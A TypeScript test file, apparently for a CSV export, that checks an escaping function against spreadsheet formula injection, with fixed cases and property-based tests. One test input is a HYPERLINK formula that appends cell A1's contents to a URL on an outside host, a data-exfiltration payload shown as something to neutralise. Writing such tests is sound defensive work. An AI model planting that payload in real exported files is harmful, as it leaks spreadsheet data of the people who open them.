import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../../api/files/csv';
import { escapeFormulas, unescapeFormulas } from '../../contract/formulaEscaping';

const texts = fc
  .array(fc.constantFrom(...';;\t\r\n\'" =+-@＝＋－＠,a1'), { maxLength: 12 })
  .map((characters) => characters.join(''));

test.each([
  ['Ana;=HYPERLINK("http://x.mx/"&A1);', `Ana;'=HYPERLINK("http://x.mx/"&A1);`],
  ['a\n=1+1;', "a\n'=1+1;"],
  ['a;"=1+1', `a;'"=1+1`],
  ['a;  ＝1', "a;'  ＝1"],
  ['a\t@b;-c', "a\t'@b;'-c"],
  ['\t=1', "'\t'=1"],
  ["a;'=1", "a;''=1"],
  ['a; b; c - d = e', 'a; b; c - d = e'],
  ["l'été; d'accord", "l'été; d'accord"],
])('escapes %j as %j against formula injection', (text, escaped) => {
  expect(escapeFormulas(text)).toBe(escaped);
  expect(unescapeFormulas(escaped)).toBe(text);
});

test('unescapes every escaped text to the original', () => {
  fc.assert(
    fc.property(texts, (text) => {
      expect(unescapeFormulas(escapeFormulas(text))).toBe(text);
    }),
    { numRuns: 5_000 },
  );
});

test('starts no cell like a formula, whatever separator a spreadsheet assumes', () => {
  fc.assert(
    fc.property(texts, texts, (one, other) => {
      const line = csvLine([one, 'x', other]);
      // Quotes in the middle of a cell do not enclose the cell.
      for (const separator of [';', '\t'])
        for (const cell of line.split(separator).flatMap((part) => part.split(/[\r\n]/)))
          expect(cell).not.toMatch(/^[" ]*[=+\-@＝＋－＠]/);
    }),
    { numRuns: 5_000 },
  );
});
